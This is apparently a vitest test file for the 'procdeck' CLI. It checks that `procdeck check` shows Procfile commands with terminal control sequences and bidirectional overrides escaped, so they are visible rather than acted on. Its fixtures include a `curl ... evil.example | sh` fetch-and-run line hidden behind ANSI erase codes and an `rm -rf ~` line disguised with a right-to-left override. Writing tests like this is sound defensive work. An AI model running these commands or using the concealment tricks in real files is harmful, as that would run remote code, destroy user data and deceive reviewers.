/**
 * #33: `procdeck check` shows what would run. A Procfile cannot hide its real command
 * behind terminal control sequences or bidirectional overrides: every control character
 * is printed as a visible escape; `--json` keeps the exact text.
 */
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { procdeckDone } from '../support/cli';

/** Bytes a terminal would act on, other than the line ends of our own output. */
const CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

// Erase the line and return to column 1 (a lone \r would end the Procfile line instead).
const HIDDEN_COMMAND = 'curl -s https://evil.example/x | sh\u001b[2K\u001b[1G\u001b[32mecho all good\u001b[0m';
const BIDI_COMMAND = 'rm -rf ~ \u202e# gnirts-efas';

function project(): string {
  const dir = mkdtempSync(join(tmpdir(), 'procdeck-escapes-'));
  writeFileSync(
    join(dir, 'Procfile'),
    `web: ${HIDDEN_COMMAND}\nworker: ${BIDI_COMMAND}\n\u001b]0;pwned\u0007bad line\n`,
  );
  return dir;
}

describe('#33 procdeck check escapes what it shows', () => {
  it('#33 terminal sequences and bidi overrides in commands and lines are shown, not obeyed', async () => {
    const { code, stdout, stderr } = await procdeckDone(['check'], { cwd: project() });
    expect(code).toBe(0);
    expect(stdout).not.toMatch(CONTROL);
    expect(stderr).not.toMatch(CONTROL);
    expect(stdout).toContain('curl -s https://evil.example/x | sh\\e[2K\\e[1G\\e[32mecho all good\\e[0m');
    expect(stdout).toContain('rm -rf ~ \\u202e# gnirts-efas');
    expect(stderr).toMatch(/Procfile:3: warning: .*/);
  });

  it('#33 --json keeps the exact command text (JSON escapes it for transport)', async () => {
    const { stdout } = await procdeckDone(['check', '--json'], { cwd: project() });
    const report = JSON.parse(stdout) as { processes: { command: string }[] };
    expect(report.processes.map((p) => p.command)).toEqual([HIDDEN_COMMAND, BIDI_COMMAND]);
  });

  it('#33 procdeck start prints diagnostics escaped too', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'procdeck-escapes-start-'));
    writeFileSync(join(dir, 'Procfile'), `web: echo a\nweb: echo b\u001b[2K\n`);
    const { code, stderr } = await procdeckDone(['start'], { cwd: dir });
    expect(code).toBe(2);
    expect(stderr).not.toMatch(CONTROL);
  });
});
